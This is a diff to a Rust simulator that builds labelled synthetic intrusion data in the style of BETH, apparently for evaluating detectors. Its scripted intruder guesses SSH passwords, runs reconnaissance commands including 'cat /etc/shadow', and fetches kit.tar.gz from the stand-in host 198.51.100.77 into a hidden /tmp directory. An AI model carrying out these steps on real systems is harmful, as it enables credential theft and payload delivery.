@@ -8,13 +8,13 @@
 //! Labels: what the intruder's shell and its children do is `evil` and `sus`. sshd's part of the
 //! intruder's logins and guesses, and the service manager and greeting started for them, are `sus` only.
 
-use super::call::{ALREADY, IN_PROGRESS, NO_SUCH_FILE, NOT_PERMITTED, REFUSED};
-use super::files::{APPEND, CREATE};
+use super::call::{ACCESS_DENIED, ALREADY, IN_PROGRESS, NOT_PERMITTED, REFUSED};
+use super::files::{APPEND, CREATE, READ};
 use super::host::{Counts, Host};
 use super::process::Task;
 use super::remote::{Account, LoginLabels, Session, Visitor};
 use super::services::Services;
-use super::text::{Label, Peer};
+use super::text::Label;
 use super::tools::{self, Tool};
 
 /// Shares of the test split's events, per mille: near BETH's 838 evil and 69 suspicious only.
@@ -23,6 +23,9 @@ const SUSPICIOUS_SHARE: u64 = 70;
 const BENIGN_SHARE: u64 = 1_000 - EVIL_SHARE - SUSPICIOUS_SHARE;
 /// The break-in begins after this share of the benign events, per mille.
 const QUIET_SHARE: u64 = 300;
+
+/// A login of the intruder takes about 800 events: recordings of fewer events than this begin after it.
+const SHORT: u64 = 5_000;
 
 const INTRUDER: Account = Account {
     user: 1_001,
@@ -33,6 +36,8 @@ const LABELS: LoginLabels = LoginLabels {
     manager: Label::Suspicious,
     shell: Label::Evil,
 };
+/// The file of password hashes, which only root may read.
+const SHADOW: &str = "/etc/shadow";
 const KIT: &str = "/tmp/.X19-unix";
 const ARCHIVE: &str = "kit.tar.gz";
 const KIT_FILES: [&str; 8] = [
@@ -50,7 +55,7 @@ const THREADS: usize = 100;
 const BURST: u64 = 4_000;
 
 /// What the intruder types to learn about the host, in this order; each command with its argument.
-static LOOK_AROUND: [(&Tool, &str); 18] = [
+static LOOK_AROUND: [(&Tool, &str); 19] = [
     (&tools::W, "-h"),
     (&tools::UNAME, "-a"),
     (&tools::CAT, "/proc/cpuinfo"),
@@ -68,12 +73,14 @@ static LOOK_AROUND: [(&Tool, &str); 18] = [
     (&tools::DF, "-h"),
     (&tools::TOP, "-bn1"),
     (&tools::HEAD, "/etc/os-release"),
+    (&tools::CAT, SHADOW),
     (&tools::LS, "/var/tmp"),
 ];
 
 #[derive(Clone, Copy)]
 enum Stage {
-    Waiting,
+    /// Nothing has happened yet; the session if there is one from before the recording.
+    Waiting(Option<Session>),
     /// Passwords are tried; `left` more visitors come after this one.
     Guessing {
         visitor: Visitor,
@@ -103,10 +110,11 @@ pub(super) struct Campaign {
 }
 
 impl Campaign {
-    /// A campaign that has not begun.
-    pub(super) fn new() -> Self {
+    /// A campaign that has not begun. A recording too short to hold a login finds the intruder logged in already.
+    pub(super) fn new(host: &mut Host<'_, '_>, services: &Services) -> Self {
+        let session = (host.share() < SHORT).then(|| host.boot_session(services, INTRUDER, LABELS));
         Self {
-            stage: Stage::Waiting,
+            stage: Stage::Waiting(session),
             due: 0,
             scanner: None,
         }
@@ -131,12 +139,13 @@ impl Campaign {
 
     fn next_stage(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Stage {
         match self.stage {
-            Stage::Waiting
-                if per_mille(host.counts().benign, host) < BENIGN_SHARE * QUIET_SHARE / 1_000 =>
-            {
-                Stage::Waiting
+            Stage::Waiting(Some(session)) => {
+                // However few events there are, some are benign.
+                host.systemd_round(services);
+                Stage::LookingAround { session, next: 1 }
             }
-            Stage::Waiting => guess(host, services, (host.share() / 15_000).min(5) as u32),
+            Stage::Waiting(None) if too_early(host) => self.stage,
+            Stage::Waiting(None) => guess(host, services, (host.share() / 15_000).min(5) as u32),
             Stage::Guessing { visitor, left } => self.guess_on(host, services, visitor, left),
             Stage::LookingAround { session, next } => look_around(host, session, next),
             Stage::Downloading(session) => download(host, session),
@@ -181,6 +190,11 @@ impl Campaign {
     }
 }
 
+/// True while there are too few ordinary events for a background.
+fn too_early(host: &Host<'_, '_>) -> bool {
+    per_mille(host.counts().benign, host) < BENIGN_SHARE * QUIET_SHARE / 1_000
+}
+
 fn per_mille(part: u64, host: &Host<'_, '_>) -> u64 {
     part * 1_000 / host.share()
 }
@@ -194,7 +208,7 @@ fn guess(host: &mut Host<'_, '_>, services: &Services, left: u32) -> Stage {
 
 /// One command; how many there are depends on how long the recording is.
 fn look_around(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage {
-    let commands = (host.share() as usize / 1_000).clamp(2, LOOK_AROUND.len());
+    let commands = (host.share() as usize / 1_000).clamp(3, LOOK_AROUND.len());
     let Some(&(tool, argument)) = LOOK_AROUND[..commands].get(next) else {
         return Stage::Downloading(session);
     };
@@ -207,7 +221,9 @@ fn look_around(host: &mut Host<'_, '_>, session: Session, next: usize) -> Stage 
         host.pipeline(session.shell, &tools);
     } else {
         host.command_with(session.shell, tool, &[argument], |host, task| {
-            if argument.starts_with("/proc/") || argument.starts_with("/etc/") {
+            if argument == SHADOW {
+                host.open_fails(task, SHADOW, READ, ACCESS_DENIED);
+            } else if argument.starts_with("/proc/") || argument.starts_with("/etc/") {
                 host.read(task, argument);
             }
         });
@@ -226,7 +242,7 @@ fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
         tool,
         &["http://198.51.100.77/kit.tar.gz"],
         |host, task| {
-            resolve_name(host, task);
+            host.resolve_name(task);
             let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
             let server = host.internet([198, 51, 100, 77], 80);
             host.connect(task, fd, &server, 0);
@@ -235,16 +251,6 @@ fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
         },
     );
     Stage::Unpacking(session)
-}
-
-fn resolve_name(host: &mut Host<'_, '_>, task: Task) {
-    let fd = host.socket(task, "AF_UNIX", "SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
-    host.connect(task, fd, &Peer::Unix("/var/run/nscd/socket"), NO_SUCH_FILE);
-    host.close(task, fd);
-    let fd = host.socket(task, "AF_INET", "SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK");
-    let resolver = host.internet([127, 0, 0, 53], 53);
-    host.connect(task, fd, &resolver, 0);
-    host.close(task, fd);
 }
 
 fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
